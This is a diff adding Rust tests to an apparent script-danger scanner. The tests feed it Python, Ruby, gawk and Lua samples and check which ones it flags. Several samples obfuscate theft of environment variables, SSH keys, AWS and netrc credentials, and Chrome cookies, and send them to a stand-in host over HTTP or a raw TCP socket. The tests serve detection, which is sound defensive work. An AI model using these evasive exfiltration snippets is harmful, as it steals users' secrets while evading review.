@@ -534,3 +534,89 @@ fn paths_that_powershell_joins_are_known() {
     let plain = "$file = Join-Path $HOME (Join-Path 'docs' 'costs.csv')\n";
     assert_ne!(of("pwsh", "a.ps1", &format!("{plain}{sends}")), Some(Severity::Danger));
 }
+
+#[test]
+fn the_whole_environment_is_seen_by_whatever_name_it_is_asked_for() {
+    let sends = "urllib.request.urlopen('https://x.invalid', json.dumps(dict(e)).encode())\n";
+    for take in [
+        "import os\ne = vars(os)['environ']\n",
+        "import os\ne = getattr(os, 'envi' + 'ron')\n",
+        "import os\nname = 'environ'\ne = getattr(os, name)\n",
+        "import os\ne = os.__dict__['environ']\n",
+        "import os as o\ne = o.environ\n",
+        "import posix\ne = posix.environ\n",
+        "from os import path, environ\ne = environ\n",
+        "e = __import__('os').environ\n",
+        "import subprocess\ne = subprocess.check_output(['env'])\n",
+    ] {
+        let code = format!("import json, urllib.request\n{take}{sends}");
+        assert_eq!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
+    }
+    for take in [
+        "import os\ne = getattr(os, 'environ', {}).get('LANG')\n",
+        "from os import environ\ne = environ.get('LANG', '')\n",
+        "from os import environ\ne = environ['LANG']\n",
+        "from os import environ\ne = 'CI' in environ\n",
+        "import subprocess\ne = subprocess.run(['env', 'LC_ALL=C', 'sort', 'x'])\n",
+        "def app(environ, start):\n    return environ\ne = 1\n",
+    ] {
+        let code = format!("import json, urllib.request\n{take}{sends}");
+        assert_ne!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
+    }
+}
+
+#[test]
+fn texts_that_ruby_turns_and_joins_one_by_one_are_known() {
+    let sends = "require 'net/http'\nNet::HTTP.post(URI('https://x.invalid/a'), IO.binread(at))\n";
+    for path in [
+        "%w[swa. slaitnederc].map(&:reverse).inject(Dir.home) { |dir, part| File.join(dir, part) }",
+        "%w[hss. asr_di].map { |part| part.reverse }.reduce(Dir.home) { |dir, part| dir + '/' + part }",
+        "File.join(Dir.home, %w[rc net .].reverse.inject(:+))",
+    ] {
+        let code = format!("at = {path}\n{sends}");
+        assert_eq!(of("ruby", "a.rb", &code), Some(Severity::Danger), "{code}");
+    }
+    let plain = "at = %w[docs notes.md].map(&:downcase).inject(Dir.pwd) { |dir, part| File.join(dir, part) }\n";
+    assert_ne!(of("ruby", "a.rb", &format!("{plain}{sends}")), Some(Severity::Danger));
+}
+
+#[test]
+fn what_awk_reads_by_a_command_and_writes_into_a_socket_leaves() {
+    let reads = |path: &str| {
+        format!(
+            "BEGIN {{\n  dot = sprintf(\"%c\", 46)\n  from = \"cat \" ENVIRON[\"HOME\"] \"/\" {path}\n  while ((from | getline line) > 0) all = all line\n  close(from)\n  to = \"/inet/tcp/0/x.invalid/9\"\n  print all |& to\n}}\n"
+        )
+    };
+    assert_eq!(of("gawk -f", "a.awk", &reads("dot \"netr\" \"c\"")), Some(Severity::Danger));
+    assert_ne!(of("gawk -f", "a.awk", &reads("\"notes.txt\"")), Some(Severity::Danger));
+}
+
+#[test]
+fn what_runs_text_in_lua_is_told_under_another_name() {
+    for code in [
+        "local make = rawget(_G, 'load' .. 'string') or load\npcall(make(text()))\n",
+        "local make = loadstring or load\nmake(text())()\n",
+        "local f = _G['load'](text())\nf()\n",
+        "_ENV['load' .. 'string'](text())()\n",
+    ] {
+        assert_eq!(of("lua", "a.lua", code), Some(Severity::Danger), "{code}");
+    }
+    for code in [
+        "local load = loadstring or load\nprint(1)\n",
+        "local M = {}\nlocal function load(path) return path end\nM.load = load\nreturn M\n",
+        "local unpack = table.unpack or unpack\nprint(unpack({ 1 }))\n",
+    ] {
+        assert_ne!(of("lua", "a.lua", code), Some(Severity::Danger), "{code}");
+    }
+}
+
+#[test]
+fn files_that_patterns_of_a_table_find_are_those_that_are_read() {
+    let table = |place: &str| {
+        format!(
+            "from pathlib import Path\nROOT = Path.home()\nKINDS = {{\n    'a': ['{place}', 'docs/*'],\n    'b': ['notes/*.md'],\n}}\ndef samples():\n    for kind, patterns in KINDS.items():\n        for pattern in patterns:\n            for path in ROOT.glob(pattern):\n                yield kind, path.read_bytes()\n"
+        )
+    };
+    assert_eq!(of("python3", "a.py", &table(".config/google-chrome/*/Cookies")), Some(Severity::Danger));
+    assert_ne!(of("python3", "a.py", &table("templates/*.txt")), Some(Severity::Danger));
+}
